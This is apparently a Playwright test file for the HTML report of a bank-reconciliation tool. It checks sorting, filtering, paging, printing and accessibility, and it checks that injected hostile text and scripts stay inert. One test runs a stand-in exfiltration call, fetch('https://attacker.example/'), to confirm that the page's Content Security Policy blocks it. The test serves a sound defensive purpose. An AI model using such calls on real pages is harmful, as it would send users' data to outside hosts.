import { writeFileSync } from 'node:fs';
import { join } from 'node:path';
import type { BrowserContextOptions, Page } from 'playwright-core';
import { beforeAll, describe, expect, it } from 'vitest';
import { type Finding, FINDING_CLASSES } from '../../src/reconcile/finding.js';
import { reportBeginning, reportEnd, reportFinding } from '../../src/reconcile/report/document.js';
import { REPORT_FINDINGS_MAX } from '../../src/reconcile/report/document.js';
import { shownFinding } from '../../src/reconcile/findings-shown.js';
import { readAsset } from '../../src/runtime/asset.js';
import { findingOf, HOSTILE, lineOf, operationOf, resultOf } from '../reconcile/given.js';
import { foundByAxe } from './axe.js';
import { CHROMIUM, openBrowser, openTab } from './browser.js';
import { IS_SOAK } from '../support/soak.js';
import { testFolder } from '../support/test-folder.js';

const PAGE_ROWS = 100;
const MANY = IS_SOAK ? REPORT_FINDINGS_MAX : REPORT_FINDINGS_MAX / 10;
const partOf = (name: string): string => Buffer.from(readAsset(name)).toString('utf8');
const parts = { script: partOf('report.js'), style: partOf('report.css') };

/** Words of up to 20 characters that stand on two lines. */
const BROKEN = `(() => {
  const walker = document.createTreeWalker(document.querySelector('main'), NodeFilter.SHOW_TEXT);
  const broken = [];
  for (let node = walker.nextNode(); node !== null; node = walker.nextNode())
    for (const { 0: word, index } of node.data.matchAll(/(?<!\\S)[-\\p{L}\\p{N}.]{1,20}(?!\\S)/gu)) {
      const range = document.createRange();
      range.setStart(node, index);
      range.setEnd(node, index + word.length);
      if (new Set([...range.getClientRects()].map(({ top }) => Math.round(top))).size > 1) broken.push(word);
    }
  return broken;
})()`;

function documentOf(findings: readonly Finding[], leftOut = 0, where: readonly string[] = []): string {
  const facts = [
    ['File', 'bank.csv'],
    ['Until', HOSTILE.join(' ')],
  ] as const;
  const how = { where, hasNegatives: false, currency: null, decimals: new Map() };
  return [
    reportBeginning(`Reconciliation of ${HOSTILE.join(' ')}`, facts, resultOf(), parts),
    ...findings.map((finding, at) => reportFinding(shownFinding(finding, how), at === 0)),
    reportEnd(leftOut, parts),
  ].join('');
}

const AMOUNTS = ['9.50', '10.00', '1000.00', '2.00'];

const FEW = (['ambiguous', 'amount_differs', 'pending', 'only_here'] as const).map((kind, at) =>
  findingOf(kind, {
    here: [lineOf({ line: at + 2, reference: `ref-${String(at)}`, amount: AMOUNTS[at]! })],
    there: kind === 'only_here' ? [] : [operationOf({ currency: at === 2 ? 'USD' : 'VES' })],
  }),
);

describe.skipIf(CHROMIUM === undefined)('the report (skipped where there is no chromium)', () => {
  beforeAll(openBrowser);

  function opened(
    findings: readonly Finding[],
    leftOut = 0,
    how: BrowserContextOptions = {},
    where: readonly string[] = [],
  ) {
    const path = join(testFolder(), 'report.html');
    writeFileSync(path, documentOf(findings, leftOut, where));
    return openTab(`file://${path}`, how);
  }
  const column = (tab: { page: Page }, at: number): Promise<string[]> =>
    tab.page.locator(`.findings tbody tr td:nth-child(${String(at)})`).allInnerTexts();

  it('sorts money as money, either way, and goes back to the worst first', async () => {
    const tab = await opened(FEW);
    expect(await column(tab, 1)).toEqual(['ambiguous', 'amount differs', 'pending', 'only in your file']);
    await tab.page.getByRole('button', { name: 'Your file' }).click();
    expect(await column(tab, 3)).toEqual(['2.00 VES', '9.50 VES', '10.00 VES', '1000.00 VES']);
    await tab.page.getByRole('button', { name: 'Your file' }).click();
    expect(await column(tab, 3)).toEqual(['1000.00 VES', '10.00 VES', '9.50 VES', '2.00 VES']);
    await tab.page.getByRole('button', { name: 'Class' }).click();
    expect(await column(tab, 2)).toEqual(['2', '3', '4', '5']);
    expect(tab.wrong).toEqual([]);
  });

  it('shows only what is asked for: classes, a currency, a text', async () => {
    const tab = await opened(FEW);
    await tab.page.getByLabel('pending').check();
    await tab.page.getByLabel('only in your file').check();
    expect(await column(tab, 1)).toEqual(['pending', 'only in your file']);
    await tab.page.getByLabel('Currency').selectOption('USD');
    expect(await column(tab, 1)).toEqual(['pending']);
    await tab.page.getByLabel('Currency').selectOption('');
    await tab.page.getByRole('searchbox', { name: 'Find' }).fill('REF-3');
    expect(await column(tab, 5)).toEqual(['ref-3']);
    expect(await tab.page.getByRole('status').innerText()).toBe('1 of 4 findings');
    await tab.page.getByRole('searchbox', { name: 'Find' }).fill('nowhere');
    expect(await column(tab, 1)).toEqual([]);
  });

  it('says that there is nothing to list', async () => {
    const tab = await opened([]);
    expect(await tab.page.locator('#list').innerText()).toBe('None.');
  });

  const LONG = FINDING_CLASSES.map((kind, at) => {
    const reference = at % 2 === 0 ? `NÓMINA-${'SEGUNDA-QUINCENA-'.repeat(4)}${String(at)}` : 'x'.repeat(90);
    const money = { reference, amount: '1234567890.50' };
    return findingOf(kind, { here: [lineOf({ ...money, date: '2026-11-23' })], there: [operationOf(money)] });
  });
  const [LIGHT, DARK] = ['light', 'dark'].map((scheme) =>
    [1280, 768, 390].map((width) => `${scheme} ${String(width)}`),
  );
  it.each([...LIGHT!, ...DARK!.slice(IS_SOAK ? 0 : 2)])(
    'has nothing that axe finds: %s wide',
    async (look) => {
      const [colorScheme, width] = look.split(' ') as ['light' | 'dark', string];
      const viewport = { width: Number(width), height: 800 };
      const tab = await opened(LONG, 7, { colorScheme, viewport }, ['--live', '--profile', 'producción']);
      expect(await foundByAxe(tab.page)).toEqual([]);
      const boxes = `[document.documentElement, ...document.querySelectorAll('.wide')]`;
      expect(
        await tab.page.evaluate(`${boxes}.filter((box) => box.scrollWidth > box.clientWidth).length`),
      ).toBe(0);
      expect(await tab.page.evaluate(BROKEN)).toEqual([]);
      expect(await tab.page.locator('.left-out').innerText()).toContain('Of 17 findings the first 10');
      expect(await tab.page.getByRole('button', { name: 'Next' }).isVisible()).toBe(false);
      await tab.page.locator('code').first().click();
      expect(await tab.page.evaluate('getSelection().toString()')).toMatch(
        /^svc \S+ \S+ --live --profile 'producción' /,
      );
      if (width !== '390') return;
      const label = `getComputedStyle(document.querySelector('.findings td:nth-child(3)'), '::before').content`;
      expect(await tab.page.evaluate(label)).toBe('"Your file"');
      await tab.page.getByRole('button', { name: 'Your file' }).click();
    },
  );

  it('lets no text in it do anything, wherever it stands', async () => {
    const findings = HOSTILE.map((text, at) => {
      const said = { status: text, currency: text };
      return findingOf('amount_differs', {
        here: [lineOf({ line: at, reference: text, bankReference: text, id: text, date: text })],
        there: [operationOf({ ...{ id: text, reference: text, bankReference: text }, ...said })],
        tolerances: [text],
      });
    });
    const tab = await opened(findings);
    const requests: string[] = [];
    tab.page.on('request', (request) => requests.push(request.url()));
    await tab.page.reload();
    await tab.page.getByRole('button', { name: 'Reference' }).click();
    expect(await tab.page.evaluate('window.hit')).toBeUndefined();
    expect(await tab.page.locator('.findings img, .findings svg, .facts img, h1 img').count()).toBe(0);
    const text = await tab.page.locator('body').innerText();
    expect(text).toContain('\\u202egnp.exe\\u202c');
    expect(text).not.toContain('\u202e');
    for (const inert of HOSTILE.filter((one) => !one.includes('\u202e'))) expect(text).toContain(inert);
    expect(requests.filter((url) => !url.startsWith('file:'))).toEqual([]);
    expect(tab.wrong).toEqual([]);
  });

  it('lets nothing be loaded or sent, even by a script of its own', async () => {
    const tab = await opened(FEW);
    const sending = `fetch('https://attacker.example/').then(() => 'sent', () => 'refused')`;
    expect(await tab.page.evaluate(sending)).toBe('refused');
    expect(tab.wrong.join()).toContain('Content Security Policy');
  });

  it('shows a page at a time of very many, and prints what is chosen whole', async () => {
    const many = Array.from({ length: MANY }, (_, at) =>
      findingOf(at % 2 === 0 ? 'amount_differs' : 'date_differs', {
        here: [lineOf({ line: at + 2, reference: `inv-${String(at)}`, amount: `${String(at)}.01` })],
        there: [operationOf({ reference: `inv-${String(at)}` })],
      }),
    );
    const tab = await opened(many);
    expect(await tab.page.locator('.findings tbody tr').count()).toBe(PAGE_ROWS);
    expect(await tab.page.getByRole('status').innerText()).toBe(`${String(MANY)} findings, 1 to 100 shown`);
    await tab.page.getByRole('button', { name: 'Next' }).click();
    expect((await column(tab, 5))[0]).toBe('inv-100');
    await tab.page.getByRole('button', { name: 'Your file' }).click();
    await tab.page.getByRole('button', { name: 'Your file' }).click();
    const last = `inv-${String(MANY - 1)}`;
    expect((await column(tab, 5))[0]).toBe(last);
    await tab.page.getByRole('searchbox', { name: 'Find' }).fill(last.slice(0, -1));
    expect(await tab.page.getByRole('status').innerText()).toBe(`11 of ${String(MANY)} findings`);
    await tab.page.getByRole('searchbox', { name: 'Find' }).fill('inv-19');
    await tab.page.emulateMedia({ media: 'print' });
    await tab.page.evaluate('dispatchEvent(new Event("beforeprint"))');
    const count = await tab.page.locator('.findings tbody tr').count();
    expect(count).toBe(IS_SOAK ? 1111 : 111);
    const chosen = `${String(count)} of ${String(MANY)} findings; with the text "inv-19"`;
    expect(await tab.page.getByRole('status').innerText()).toBe(chosen);
    await tab.page.evaluate('dispatchEvent(new Event("afterprint"))');
    expect(await tab.page.locator('.findings tbody tr').count()).toBe(PAGE_ROWS);
    expect(tab.wrong).toEqual([]);
  });

  it('is printed on paper without what only a screen can do', async () => {
    const tab = await opened(LONG, 0, { viewport: { width: 690, height: 900 }, colorScheme: 'dark' });
    await tab.page.getByLabel('pending').check();
    await tab.page.getByLabel('only in your file').check();
    await tab.page.emulateMedia({ media: 'print' });
    expect(await tab.page.locator('.tools').isVisible()).toBe(false);
    expect(await tab.page.locator('.sums').isVisible()).toBe(true);
    expect(await tab.page.evaluate('document.documentElement.scrollWidth <= innerWidth')).toBe(true);
    expect(await tab.page.evaluate(BROKEN)).toEqual([]);
    await tab.page.evaluate('dispatchEvent(new Event("beforeprint"))');
    expect(await tab.page.getByRole('status').innerText()).toBe(
      '2 of 10 findings; only pending, only in your file',
    );
    expect((await tab.page.pdf()).length).toBeGreaterThan(1000);
  });
});
